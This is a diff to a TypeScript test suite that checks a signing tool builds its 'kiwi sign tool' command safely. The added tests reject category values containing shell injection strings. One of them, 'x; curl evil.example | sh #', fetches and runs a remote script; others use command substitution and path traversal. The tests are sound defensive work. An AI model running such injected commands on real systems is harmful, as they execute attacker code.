@@ -244,6 +244,17 @@ describe("SignaturesFile", () => {
       assert.deepStrictEqual(yield* ids("**/add*"), [["add", "add3", "adder"], []])
       assert.deepStrictEqual(yield* ids("*", { category: "text" }), [["cut"], []])
       assert.deepStrictEqual(yield* ids("*", { tier: "user" }), [["mine"], []])
+      const commands = [{ id: "add" }, { id: "add", category: "math" }, { id: "math/add", category: "math" }]
+      for (const [at, command] of ["add", "math/add", "math/add"].entries()) {
+        const { request } = yield* signatures.plan(commands[at]!)
+        assert.strictEqual(request.command, `kiwi sign tool ${command}`)
+      }
+      for (const category of ["x; curl evil.example | sh #", "$(id)", "..", "a\nb"]) {
+        for (const id of ["add", "math/add", "*"]) {
+          const error = yield* Effect.flip(signatures.plan({ id, category }))
+          assert.strictEqual(error._tag, "ItemIdInvalid", "what is asked for is part of a command that a person types")
+        }
+      }
       const plan = yield* signatures.plan({ id: "math/*", type: "tool" })
       assert.strictEqual(plan.request.title, "Sign 2 items")
       assert.strictEqual(plan.request.command, "kiwi sign tool 'math/*'")
